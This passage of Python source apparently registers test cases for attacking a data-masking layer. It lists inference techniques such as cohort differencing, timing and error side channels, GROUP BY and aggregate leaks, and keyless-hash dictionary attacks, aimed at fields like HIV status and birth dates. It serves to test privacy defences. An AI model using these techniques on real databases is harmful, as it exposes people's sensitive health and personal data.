    Attack("group_by_aliased_id", "population-level misjudged", "patients.hiv", group_by_aliased_id),
    Attack("group_by_lateral_rename", "population-level misjudged", "patients.hiv", group_by_lateral_rename),
    Attack("group_by_unique_non_key", "population-level misjudged", "customers.born_before_1970",
           group_by_unique_non_key),
    Attack("array_agg_unique_column", "population-level misjudged", "customers.born_before_1970",
           array_agg_unique_column),
    Attack("array_agg_of_key", "population-level misjudged", "patients.hiv", array_agg_of_key),
    Attack("max_of_unique_column", "population-level misjudged", "customers.born_before_1970", max_of_unique_column),
    *(Attack(f"error_{f}", "error channel", "patients.hiv", error_channel(f), ERROR_KEYS[f]) for f in ERROR_FAILURES),
    Attack("timing_initplan", "timing", "patients.hiv", timing_initplan, TIMING_KEYS),
    Attack("cohort_differencing", "declared predicate", "patients.born_before_1980", cohort_differencing,
           (1, 2, 3, 4, 5, 6), POLICIES / "cohort.yaml"),
    Attack("cohort_differencing_corpus_policy", "declared predicate", "patients.born_before_1980",
           cohort_differencing, (1, 2, 3, 4, 5, 6)),
    Attack("cohort_key_variance", "declared predicate", "patients.born_before_1980", cohort_key_variance),
    Attack("cohort_joint_differencing", "declared predicate", "patients.hiv", cohort_joint_differencing,
           (6, 1, 13, 2), POLICIES / "cohort.yaml"),
    Attack("cohort_having_error", "declared predicate", "patients.born_before_1980", cohort_having_error),
    Attack("cohort_differencing_exact_date", "declared predicate", "patients.birth_date",
           cohort_differencing_exact_date, (1, 2), POLICIES / "cohort.yaml"),
    Attack("equijoin_under_generalize_example", "mask semantics", "customers.same_zip_as_1",
           equijoin_under_generalize, policy=REPO / "examples" / "policy.yaml"),
    Attack("equijoin_under_generalize_demo", "mask semantics", "customers.same_zip_as_1",
           equijoin_under_generalize, policy=DEMO_POLICY_ON_CORPUS),
    Attack("shift_date_constant_subject", "mask semantics", "patients.birth_date", shift_date_constant_subject,
           tuple(range(2, 51)), POLICIES / "shift_date.yaml"),
    Attack("keyless_hash_dictionary", "mask semantics", "customers.zip", keyless_hash_dictionary,
           policy=POLICIES / "keyless_hash.yaml"),
    Attack("generalize_keeps_category_example", "mask semantics", "patients.category", generalize_keeps_category,
           policy=REPO / "examples" / "policy.yaml"),
    Attack("generalize_keeps_category_demo", "mask semantics", "patients.category", generalize_keeps_category,
           policy=DEMO_POLICY_ON_CORPUS),
)
